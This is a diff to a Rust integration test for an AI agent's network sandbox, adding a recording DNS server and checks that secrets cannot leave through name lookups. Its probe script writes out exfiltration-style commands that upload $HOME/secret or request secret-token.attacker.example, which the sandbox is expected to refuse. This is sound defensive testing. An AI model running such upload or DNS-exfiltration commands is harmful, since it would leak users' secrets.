@@ -37,6 +37,8 @@ use std::process::{Child, ChildStdout, Command, Stdio};
 use common::{require_kernel_features, scratch_base, skip, TestUser, BIN};
 
 const SERVICE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/net_service.py");
+/// The world's name server (UDP), which records the names it is asked.
+const DNS_SERVICE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/dns_service.py");
 /// The host's services: one on its loopback (recording), one on every
 /// address, one on its IPv6 loopback only (as Node's `localhost` and
 /// Vite's default bind).
@@ -172,6 +174,8 @@ struct World {
     record: PathBuf,
     /// What the "internet" was asked, one path per line.
     internet_record: PathBuf,
+    /// The names the name server was asked about, one per line.
+    dns_record: PathBuf,
     _dir: tempfile::TempDir,
 }
 
@@ -231,17 +235,23 @@ fn world() -> World {
     internet.wait_ready();
     let record = dir.path().join("record");
     let mut services = Vec::new();
-    for (ns, addr, port, record) in [
-        (&host, "127.0.0.1", LOOPBACK_PORT, Some(&record)),
-        (&host, "0.0.0.0", ALL_ADDRESSES_PORT, None),
-        (&host, "::1", V6_ONLY_PORT, None),
-        (&internet, RESOLVER, 53, None),
+    let dns_record = dir.path().join("dns-record");
+    let dns = [DNS_SERVICE, RESOLVER, "53"]
+        .map(PathBuf::from)
+        .into_iter()
+        .chain([dns_record.clone(), "10.77.0.2".into()]);
+    for (ns, argv) in [
+        (
+            &host,
+            service_argv("127.0.0.1", LOOPBACK_PORT, Some(&record)),
+        ),
+        (&host, service_argv("0.0.0.0", ALL_ADDRESSES_PORT, None)),
+        (&host, service_argv("::1", V6_ONLY_PORT, None)),
+        (&internet, service_argv(RESOLVER, 53, None)),
+        (&internet, dns.collect()),
     ] {
         let mut cmd = Command::new("python3");
-        cmd.args([SERVICE, addr, &port.to_string()])
-            .args(record)
-            .stdin(Stdio::null())
-            .stdout(Stdio::piped());
+        cmd.args(argv).stdin(Stdio::null()).stdout(Stdio::piped());
         let _ns = ns.enter(&mut cmd, None);
         let mut child = cmd.spawn().unwrap();
         let out = BufReader::new(child.stdout.take().unwrap());
@@ -255,8 +265,26 @@ fn world() -> World {
         _services: services,
         record,
         internet_record,
+        dns_record,
         _dir: dir,
     }
+}
+
+/// `net_service.py` on `addr:port`, recording into `record`.
+fn service_argv(addr: &str, port: u16, record: Option<&PathBuf>) -> Vec<PathBuf> {
+    [SERVICE, addr, &port.to_string()]
+        .map(PathBuf::from)
+        .into_iter()
+        .chain(record.cloned())
+        .collect()
+}
+
+/// The names the world's name server was asked about since the last
+/// call (each call empties the record).
+fn names_asked(world: &World) -> String {
+    let names = std::fs::read_to_string(&world.dns_record).unwrap_or_default();
+    let _ = std::fs::remove_file(&world.dns_record);
+    names
 }
 
 /// What the sandboxed script tries, one `name: result` line each: the
@@ -285,6 +313,8 @@ probe secret-upload-socks --socks5-hostname 127.0.0.1:3128 -T "$HOME/secret" htt
 probe secret-upload-v6 -T "$HOME/secret" 'http://[2001:db8::2]:8080/secret-v6'
 probe secret-upload-host -T "$HOME/secret" -H 'Host: 198.51.100.2:8080' http://example.invalid:8080/secret-host
 probe secret-in-a-name http://secret-token.attacker.example/
+probe secret-in-a-name-on-an-open-port http://secret-token.attacker.example:18081/
+probe lan-by-name http://printer.lan:8080/
 probe resolver http://10.77.0.53:53/
 probe unlisted-on-53 http://unlisted.example:53/
 python3 "$HOME/net_service.py" 127.0.0.1 18500 >/dev/null 2>&1 &
@@ -452,6 +482,14 @@ fn assert_defaults(r: &std::collections::BTreeMap<String, String>, world: &World
     );
     // No name server either: it would look up (and carry out) any name.
     assert!(r["resolver"].starts_with(REFUSED), "{}", r["resolver"]);
+    // Nor did the proxy look a name up for it: no name left at all (a LAN
+    // name neither, with the LAN closed).
+    assert!(
+        r["lan-by-name"].starts_with(REFUSED),
+        "{}",
+        r["lan-by-name"]
+    );
+    assert_eq!(names_asked(world), "", "a name was looked up");
     // Servers the sandboxed process starts work on its own loopback.
     assert_eq!(r["own-server"], "hello from 127.0.0.1");
 }
@@ -489,12 +527,19 @@ fn assert_egress_allowed(r: &std::collections::BTreeMap<String, String>) {
 
 fn defaults_and_allows(user: Option<&TestUser>) {
     let world = world();
+    let _ = names_asked(&world);
     let r = probe(&world, user, None);
     assert_defaults(&r, &world);
 
     // Today's open internet, for those who want it: one config line.
     let r = probe(&world, user, Some(r#"{"network": {"egress": "allow"}}"#));
     assert_egress_allowed(&r);
+    // Where every host may be reached, names are looked up (which is how
+    // the name server shows what the defaults keep in).
+    assert!(
+        names_asked(&world).contains("secret-token.attacker.example"),
+        "the name server records nothing: the test could not see a lookup"
+    );
 
     // The agent's own API host is reached with no question and no config:
     // here the host of its base-URL variable (a gateway, a local model).
@@ -559,6 +604,16 @@ fn defaults_and_allows(user: Option<&TestUser>) {
         r["internet-v6"]
     );
     assert_eq!(r["own-server"], "hello from 127.0.0.1");
+    // A LAN host by its local name is looked up and reached; a name any
+    // server on the internet could answer for is not even looked up, on
+    // an open port neither (the lookup would carry the name out).
+    assert_eq!(r["lan-by-name"], "hello from 10.77.0.2");
+    for name in ["secret-in-a-name", "secret-in-a-name-on-an-open-port"] {
+        assert!(r[name].starts_with(REFUSED), "{name}: {}", r[name]);
+    }
+    let names = names_asked(&world);
+    assert!(names.contains("printer.lan"), "{names}");
+    assert!(!names.contains("secret-token"), "a name left: {names}");
 
     // An egress list: the name server is out of reach (it would look up
     // any name, and carry it out), and a name outside the list is not
